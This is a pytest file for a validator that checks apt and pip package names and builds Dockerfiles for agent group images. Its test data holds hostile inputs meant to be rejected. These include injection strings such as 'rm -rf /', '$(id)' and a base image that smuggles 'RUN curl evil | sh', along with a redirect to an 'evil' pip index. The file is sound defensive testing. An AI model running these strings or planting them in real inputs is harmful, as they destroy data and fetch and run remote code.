from __future__ import annotations

import json

import pytest

from actors.image_recipe import (
    MAX_PACKAGES,
    InvalidPackageError,
    build_group_dockerfile,
    group_image_tag,
    image_recipe,
    validate_packages,
)
from events.model import Packages

BASE = "hermitcrab-agent:latest"


@pytest.mark.parametrize("name", ["ffmpeg", "g++", "libssl3", "python3.11-venv", "r-base-core", "xz-utils"])
def test_good_apt_names(name: str) -> None:
    assert validate_packages(Packages(apt=[name])).apt == [name]


@pytest.mark.parametrize(
    "name",
    [
        "",
        "a",
        "FFmpeg",
        "-o",
        "ffmpeg;rm -rf /",
        "ffmpeg && curl x",
        "pkg name",
        "$(id)",
        "`id`",
        "pkg\n",
        "a" * 64,
        "../x",
    ],
)
def test_bad_apt_names(name: str) -> None:
    with pytest.raises(InvalidPackageError) as caught:
        validate_packages(Packages(apt=[name]))
    assert caught.value.package == name
    assert "Debian" in str(caught.value)


@pytest.mark.parametrize(
    "req", ["requests", "Pillow", "ruamel.yaml", "my_pkg", "numpy==2.1.0", "torch==2.5.1+cpu", "x"]
)
def test_good_pip_requirements(req: str) -> None:
    assert validate_packages(Packages(pip=[req])).pip == [req]


@pytest.mark.parametrize(
    "req",
    [
        "requests>=2",
        "requests[socks]",
        "git+https://github.com/x/y",
        "pkg @ https://example.com/pkg.whl",
        "https://example.com/pkg.whl",
        "--index-url=http://evil",
        "-e .",
        "pkg;python_version<'3'",
        "pkg==1.0; rm -rf /",
        "pkg==",
        "pkg==$(id)",
        "-pkg",
        "pkg-",
        "",
        "../local",
    ],
)
def test_bad_pip_requirements(req: str) -> None:
    with pytest.raises(InvalidPackageError) as caught:
        validate_packages(Packages(pip=[req]))
    assert caught.value.package == req


def test_at_most_twenty_packages_in_total() -> None:
    apt = [f"pkg{i:02d}" for i in range(12)]
    pip = [f"lib{i}" for i in range(MAX_PACKAGES - 12)]
    assert validate_packages(Packages(apt=apt, pip=pip)) == Packages(apt=apt, pip=pip)
    with pytest.raises(InvalidPackageError, match="at most 20"):
        validate_packages(Packages(apt=apt, pip=[*pip, "onemore"]))


def test_duplicates_are_dropped_before_counting() -> None:
    checked = validate_packages(Packages(apt=["curl"] * 25, pip=["rich", "rich"]))
    assert checked == Packages(apt=["curl"], pip=["rich"])


def test_dockerfile_installs_and_returns_to_the_agent_user() -> None:
    dockerfile = build_group_dockerfile(BASE, Packages(apt=["ffmpeg", "jq"], pip=["numpy==2.1.0", "rich"]))
    lines = dockerfile.splitlines()
    assert lines[0] == f"FROM {BASE}"
    assert lines[1] == "USER root"
    assert "apt-get install -y --no-install-recommends ffmpeg jq" in lines[2]
    assert lines[2].endswith("rm -rf /var/lib/apt/lists/*")
    assert lines[3].startswith("RUN [")
    assert json.loads(lines[3].removeprefix("RUN ")) == [
        "/opt/venv/bin/pip",
        "install",
        "--no-cache-dir",
        "numpy==2.1.0",
        "rich",
    ]
    assert lines[-1] == "USER agent"
    assert dockerfile.endswith("\n")


def test_dockerfile_with_only_one_kind() -> None:
    assert "apt-get" not in build_group_dockerfile(BASE, Packages(pip=["rich"]))
    assert "pip" not in build_group_dockerfile(BASE, Packages(apt=["jq"]))


def test_dockerfile_refuses_bad_input() -> None:
    with pytest.raises(InvalidPackageError, match="nothing to install"):
        build_group_dockerfile(BASE, Packages())
    with pytest.raises(InvalidPackageError):
        build_group_dockerfile(BASE, Packages(apt=["jq", "x;reboot"]))
    with pytest.raises(ValueError, match="base image"):
        build_group_dockerfile("img\nRUN curl evil | sh", Packages(apt=["jq"]))


@pytest.mark.parametrize(
    ("group_id", "tag"),
    [
        ("ag-123", "hermitcrab-agent:ag-123"),
        ("AG_Main", "hermitcrab-agent:ag_main"),
        ("weird id/with:stuff", "hermitcrab-agent:weird-id-with-stuff"),
        ("..dots", "hermitcrab-agent:dots"),
    ],
)
def test_group_image_tag(group_id: str, tag: str) -> None:
    assert group_image_tag(group_id) == tag


def test_group_image_tag_is_bounded_and_refuses_empty() -> None:
    assert len(group_image_tag("x" * 300).split(":", 1)[1]) == 128
    with pytest.raises(ValueError, match="image tag"):
        group_image_tag("...")


def test_recipe_digest_follows_the_dockerfile() -> None:
    first = image_recipe("ag-1", BASE, Packages(apt=["jq"]))
    assert first.tag == "hermitcrab-agent:ag-1"
    assert first.dockerfile == build_group_dockerfile(BASE, Packages(apt=["jq"]))
    assert image_recipe("ag-1", BASE, Packages(apt=["jq"])).digest == first.digest
    assert image_recipe("ag-1", BASE, Packages(apt=["jq", "curl"])).digest != first.digest
